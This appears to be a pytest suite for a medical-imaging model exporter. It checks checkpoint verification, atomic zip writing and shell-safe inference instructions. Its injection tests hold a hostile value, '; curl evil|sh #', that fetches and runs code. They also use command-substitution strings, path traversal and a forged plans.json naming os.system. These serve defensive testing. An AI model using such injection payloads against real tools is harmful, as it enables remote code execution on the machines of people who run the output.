"""A model leaves the cluster whole, as it was verified, and harmless, or not at all."""

import hashlib
import json
import shutil
import subprocess
import zipfile
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import pytest

from nnunet_api.model_export import Member, ModelExport, instructions
from nnunet_cli.errors import CliError, ExitCode
from nnunet_cli.export.archive import write_archive
from nnunet_cli.export.choice import wanted
from nnunet_cli.export.command import read_evidence
from nnunet_cli.export.evidence import needs_evidence, with_whole_hashes
from nnunet_cli.kube.watched import watched
from nnunet_cli.volumes.runs import Run
from nnunet_cli.volumes.stream import Lost
from tests.support.pipes import LocalVolume, Pipes
from tests.unit.cli.exporting import (
    DATASET,
    RUN,
    WEIGHTS,
    Change,
    chosen,
    exported,
    model,
    run_folder,
    steps,
    training,
    weights,
    write,
)


def test_the_zip_holds_what_nnunets_export_holds_and_no_patient(tmp_path: Path) -> None:
    run_folder(tmp_path, "3d_fullres")
    target = tmp_path / "model.zip"
    names = exported(tmp_path, chosen(training("3d_fullres")), target)
    of_fold = ("checkpoint_final.pth", "progress.png", "validation/summary.json")
    of_model = ["plans.json", "dataset.json", "dataset_fingerprint.json"]
    of_model += [f"fold_{fold}/{name}" for fold in (0, 1) for name in of_fold]
    expected = {f"{DATASET}/{model('3d_fullres')}/{name}" for name in of_model}
    assert set(names) == expected | {f"{DATASET}/inference_instructions.txt"}
    with zipfile.ZipFile(target) as archive:
        data = archive.read(f"{DATASET}/{model('3d_fullres')}/fold_1/checkpoint_final.pth")
        assert data == weights("3d_fullres", 1)
    first = target.read_bytes()
    exported(tmp_path, chosen(training("3d_fullres")), target)
    assert target.read_bytes() == first, "the same model gives the same zip"
    assert [path.name for path in tmp_path.iterdir() if path.is_file()] == ["model.zip"]


def swap(run: Path) -> None:
    folder = run / DATASET / model("2d")
    shutil.copy(folder / "fold_0/checkpoint_final.pth", folder / "fold_1/checkpoint_final.pth")


def link(run: Path) -> None:
    path = run / DATASET / model("2d") / "fold_1/checkpoint_final.pth"
    path.rename(run / "elsewhere")
    path.symlink_to(run / "elsewhere")


def link_folder(run: Path) -> None:
    path = run / DATASET / model("2d")
    path.rename(run / "elsewhere")
    path.symlink_to(run / "elsewhere")


def forge_plans(run: Path) -> None:
    forged = b'{"configurations": {"2d": {"architecture": {"network_class_name": "os.system", "arch_kwargs": {}}}}}'
    write(run / DATASET / model("2d") / "plans.json", forged)


@pytest.mark.parametrize(
    ("change", "words"),
    [
        (swap, "fold_1/checkpoint_final.pth is not the checkpoint that was verified"),
        (link, "lacks .*fold_1/checkpoint_final.pth"),
        (link_folder, "lacks .*plans.json"),
        (forge_plans, r"plans.json can't be used: .*os\.system"),
        (lambda run: write(run / DATASET / model("2d") / "dataset.json", b"{"), "dataset.json is no JSON"),
        (lambda run: (run / DATASET / model("2d") / "dataset.json").unlink(), "lacks .*dataset.json"),
    ],
)
def test_what_is_not_what_was_verified_does_not_leave(tmp_path: Path, change: Change, words: str) -> None:
    run = run_folder(tmp_path, "2d")
    change(run)
    target = tmp_path / "model.zip"
    target.write_bytes(b"an earlier one")
    with pytest.raises(CliError, match=words) as caught:
        exported(tmp_path, chosen(training("2d")), target)
    assert caught.value.exit_code == ExitCode.FOUND
    assert target.read_bytes() == b"an earlier one"
    assert [path.name for path in tmp_path.iterdir() if path.is_file()] == ["model.zip"], "half a zip was left"


class Watched(LocalVolume):
    """Knows the agent that runs."""

    pipes: Pipes | None = None

    @contextmanager
    def run(self, command: str, folder: str) -> Iterator[Any]:
        with super().run(command, folder) as remote:
            self.pipes = remote._socket
            yield remote


def test_a_broken_connection_leaves_nothing_and_the_next_call_is_whole(tmp_path: Path) -> None:
    run_folder(tmp_path, "2d")
    target = tmp_path / "model.zip"
    choice, volume, done = chosen(training("2d")), Watched(tmp_path), []

    def break_it(count: int) -> None:
        done.append(count)
        if sum(done) > len(WEIGHTS) * 1.5:
            assert volume.pipes is not None
            volume.pipes.process.kill()

    with pytest.raises(Lost):
        write_archive(target, volume, RUN, choice.export, dict.fromkeys(choice.export.required, 9), break_it)
    assert not [path for path in tmp_path.iterdir() if path.is_file()]
    assert len(exported(tmp_path, choice, target)) == 10


@pytest.mark.parametrize(("folds", "joined"), [([1, 0], "1_0"), ([0, 1], "0_1")])
@pytest.mark.parametrize("pair", [False, True])
def test_folds_are_in_the_order_of_the_spec_as_nnunet_names_its_folders(
    tmp_path: Path, folds: list[int], joined: str, pair: bool
) -> None:
    run = run_folder(tmp_path, "2d", "3d_fullres")
    results = {"selection": {"chosen": ["2d", "3d_fullres"] if pair else ["2d"]}}
    choice = chosen(training("2d", "3d_fullres", spec={"selection": {}, "folds": folds}, results=results))
    single = f"{model('2d')}/crossval_results_folds_{joined}"
    both = f"ensembles/ensemble___{model('2d')}___{model('3d_fullres')}___{joined}"
    pickled = f"{DATASET}/{both if pair else single}/postprocessing.pkl"
    write(run / pickled, steps())
    names = exported(tmp_path, choice, tmp_path / "model.zip")
    assert pickled in names
    assert f"-f {' '.join(map(str, folds))} -tr" in instructions(choice.export, names)


def test_a_choice_without_its_postprocessing_is_another_model(tmp_path: Path) -> None:
    run_folder(tmp_path, "2d", "3d_fullres")
    results = {"selection": {"chosen": ["2d", "3d_fullres"], "postprocessing": ["all foreground"]}}
    body = training("2d", "3d_fullres", spec={"selection": {}}, results=results)
    with pytest.raises(CliError, match=r"lacks .*ensembles/.*postprocessing\.pkl"):
        exported(tmp_path, chosen(body), tmp_path / "model.zip")
    without = training("2d", "3d_fullres", spec={"selection": {"postprocessing": False}}, results=results)
    assert len(exported(tmp_path, chosen(without), tmp_path / "model.zip")) == 19


def test_an_ensemble_brings_both_models_and_the_commands(tmp_path: Path) -> None:
    run = run_folder(tmp_path, "2d", "3d_fullres", "3d_lowres")
    body = training(
        *("2d", "3d_fullres", "3d_lowres"),
        spec={"selection": {}, "evaluation": {"mirroring": False, "stepSize": 1}, "trainer": {"device": "cpu"}},
        results={"selection": {"chosen": ["3d_fullres", "2d"]}},
    )
    folder = f"{DATASET}/ensembles/ensemble___{model('2d')}___{model('3d_fullres')}___0_1"
    write(run / folder / "postprocessing.pkl", steps())
    choice = chosen(body)
    names = exported(tmp_path, choice, tmp_path / "model.zip")
    assert {name.split("/")[1] for name in names} == {
        *(model("2d"), model("3d_fullres"), "ensembles", "inference_instructions.txt")
    }
    how = "--disable_tta -step_size 1 --save_probabilities -device cpu"
    predict = f'nnUNetv2_predict -d {DATASET} -i "$INPUT"'
    assert instructions(choice.export, names).splitlines()[2:] == [
        f'{predict} -o "$OUTPUT"/{name} -f 0 1 -tr nnUNetTrainer -c {name} -p nnUNetPlans {how}'
        for name in ("3d_fullres", "2d")
    ] + [
        'nnUNetv2_ensemble -i "$OUTPUT"/3d_fullres "$OUTPUT"/2d -o "$OUTPUT"/ensemble',
        'nnUNetv2_apply_postprocessing -i "$OUTPUT"/ensemble -o "$OUTPUT"/ensemble_postprocessed '
        f'-pp_pkl_file "$nnUNet_results"/{folder}/postprocessing.pkl '
        f'-plans_json "$nnUNet_results"/{DATASET}/{model("3d_fullres")}/plans.json '
        f'-dataset_json "$nnUNet_results"/{DATASET}/{model("3d_fullres")}/dataset.json',
    ]


def test_a_cascade_brings_what_it_learnt_from(tmp_path: Path) -> None:
    run_folder(tmp_path, "3d_lowres", "3d_cascade_fullres")
    choice = chosen(training("3d_lowres", "3d_cascade_fullres"), "3d_cascade_fullres")
    names = exported(tmp_path, choice, tmp_path / "model.zip")
    assert len(names) == 19
    first, second = instructions(choice.export, names).splitlines()[2:]
    assert "-c 3d_lowres" in first and '-o "$OUTPUT"/previous_stage_1_3d_lowres' in first
    assert '-o "$OUTPUT" ' in second and second.endswith(
        '-c 3d_cascade_fullres -p nnUNetPlans -prev_stage_predictions "$OUTPUT"/previous_stage_1_3d_lowres'
    )


def test_a_replicate_of_several(tmp_path: Path) -> None:
    run_folder(tmp_path, "2d", replicates=2)
    body = training("2d", replicates=2)
    exported(tmp_path, chosen(body, replicate=2), tmp_path / "model.zip")
    with zipfile.ZipFile(tmp_path / "model.zip") as archive:
        assert archive.read(f"{DATASET}/{model('2d')}/fold_0/checkpoint_final.pth") == weights("2d", 0, 2)
    with pytest.raises(CliError, match="has 2 replicates, counted from 1: there is no replicate 3"):
        chosen(body, replicate=3)


def unproven(body: Any) -> None:
    del body["status"]["folds"][1]["checkpointHash"]


def abridged(body: Any) -> None:
    body["status"]["folds"][1]["checkpointHash"] = "abcdef12"


def unfinished(body: Any) -> None:
    body["status"]["conditions"] = []


@pytest.mark.parametrize(
    ("change", "asked", "words"),
    [
        (unproven, ["2d"], "has no SHA-256 of the final checkpoint of fold 1 of 2d, and what was not verified"),
        (
            abridged,
            ["2d"],
            "has 8 of 64 digits of the SHA-256 of the final checkpoint of fold 1 of 2d, and not .* older",
        ),
        (unfinished, ["2d"], "is not complete, so it has no model"),
        (lambda _: None, [], "has chosen none: give one with --configuration, of 2d and 3d_fullres"),
        (lambda _: None, ["3d_lowres"], "has no model of 3d_lowres: there are 2d and 3d_fullres"),
    ],
)
def test_what_is_refused_before_any_pod(change: Callable[[Any], Any], asked: list[str], words: str) -> None:
    body = training("2d", "3d_fullres")
    change(body)
    with pytest.raises(CliError, match=words):
        chosen(body, *asked)


def evidence_of(body: dict[str, Any], hashes: dict[str, str]) -> bytes:
    """Return an evidence.json; cut the hashes in the status as a report on many folds does, and bind it."""
    folds = [{"fold": name, "epochs": 5, "checkpointHash": value} for name, value in hashes.items()]
    data = json.dumps({"folds": folds, "proven": True}).encode()
    for one in body["status"]["folds"]:
        one["checkpointHash"] = one["checkpointHash"][:12]
    body["status"]["provenance"] = {"evidenceHash": hashlib.sha256(data).hexdigest()}
    return data


def test_of_many_folds_evidence_has_the_hashes_that_the_status_has_no_room_for(tmp_path: Path) -> None:
    """As much is proven as of few: the status has the hash of evidence.json, and twelve digits alone are not enough."""
    run_folder(tmp_path, "2d", "3d_fullres", replicates=2)
    names = [f"{c}-{fold}-r{number}" for c in ("2d", "3d_fullres") for number in (1, 2) for fold in (0, 1)]
    body = training("2d", "3d_fullres", replicates=2)
    whole = dict(zip(names, (one["checkpointHash"] for one in body["status"]["folds"]), strict=True))
    expected = chosen(body, "2d", replicate=2)
    data = evidence_of(body, whole)
    found = watched(body)
    run = Run(LocalVolume(tmp_path), RUN)
    with pytest.raises(CliError, match=r"clinic/hippo has no evidence\.json, and the status alone has too few"):
        read_evidence(run, "clinic/hippo")
    write(tmp_path / RUN / "evidence.json", data)
    assert read_evidence(run, "clinic/hippo") == data
    assert needs_evidence(found) and not needs_evidence(with_whole_hashes(found, data))
    assert wanted(body, with_whole_hashes(found, data), ["2d"], 2).export == expected.export
    with pytest.raises(CliError, match="not the checkpoint that was verified"):
        exported(tmp_path, wanted(body, found, ["2d"], 2), tmp_path / "model.zip")
    with pytest.raises(CliError, match="is not the one that its verification wrote"):
        with_whole_hashes(found, data.replace(b"true", b"TRUE"))
    forged = evidence_of(body, {**whole, "2d-0-r1": "f" * 64})
    with pytest.raises(CliError, match="has another hash of fold 2d-0-r1 than the status"):
        with_whole_hashes(watched(body), forged)
    cut = evidence_of(body, {name: value[:12] for name, value in whole.items()})
    with pytest.raises(CliError, match="has another hash of fold 2d-0-r1"):
        with_whole_hashes(watched(body), cut)


EVIL = "; curl evil|sh #"


@pytest.mark.parametrize(
    "path",
    [
        f"models/{RUN}/Dataset004_X{EVIL}/{model('2d')}",
        f"models/{RUN}/{DATASET}/nnUNetTrainer__P{EVIL}__2d",
        f"models/{RUN}/{DATASET}/nnUNetTrainer__$(sh)__2d",
        f"models/{RUN}/{DATASET}/Other__P__2d",
        f"models/{RUN}/{DATASET}/{model('3d_fullres')}",
        f"models/clinic/other-12345678/{DATASET}/{model('2d')}",
        f"models/{RUN}/{DATASET}/nnUNetTrainer__a/../P__2d",
        "",
    ],
)
def test_a_path_that_a_pod_has_made_up_tells_nothing(path: str) -> None:
    """It comes from the training's own image, and a person pastes the commands into a shell."""
    with pytest.raises(CliError, match="does not say by which plans"):
        chosen(training("2d", results={"modelPath": path}))
    known = chosen(training("2d", results={"modelPath": path}, provenance={"plansName": "nnUNetPlans"}))
    assert known == chosen(training("2d"))
    with pytest.raises(CliError, match="does not say by which plans"):
        chosen(training("2d", provenance={"plansName": f"P{EVIL}"}))


def test_no_name_is_anything_else_to_a_shell() -> None:
    member = Member(configuration="a b", trainer_class="T$(x)", plans="P'`x`", folds=("0", "1;2"))
    export = ModelExport(dataset=f"D{EVIL}", chosen=(member,), postprocessing=())
    text = instructions(export, [f"{folder}/postprocessing.pkl" for folder in export.folders_of_choice])
    show = """() { printf '%s\\n' "$@"; }; """
    shell = f"nnUNetv2_predict{show}nnUNetv2_apply_postprocessing{show}"
    places = {"INPUT": "i", "OUTPUT": "a folder/o", "nnUNet_results": "r"}
    done = subprocess.run(["/bin/sh", "-c", shell + text], env=places, capture_output=True, text=True, timeout=120)
    home = f"r/D{EVIL}/T$(x)__P'`x`__a b"
    assert (done.stderr, done.stdout.splitlines()) == (
        "",
        [
            *("-d", f"D{EVIL}", "-i", "i", "-o", "a folder/o/a b"),
            *("-f", "0", "1;2", "-tr", "T$(x)", "-c", "a b", "-p", "P'`x`"),
            *("-i", "a folder/o/a b", "-o", "a folder/o/a b_postprocessed"),
            *("-pp_pkl_file", f"{home}/crossval_results_folds_0_1;2/postprocessing.pkl"),
            *("-plans_json", f"{home}/plans.json", "-dataset_json", f"{home}/dataset.json"),
        ],
    )


def test_a_full_disk_is_known_beforehand(tmp_path: Path) -> None:
    run_folder(tmp_path, "2d")
    choice = chosen(training("2d"))
    sizes = dict.fromkeys(choice.export.files, 1 << 60)
    with pytest.raises(CliError, match="make room, or give another place") as caught:
        write_archive(tmp_path / "model.zip", LocalVolume(tmp_path), RUN, choice.export, sizes, lambda _: None)
    assert caught.value.exit_code == ExitCode.USAGE and not (tmp_path / "model.zip").exists()
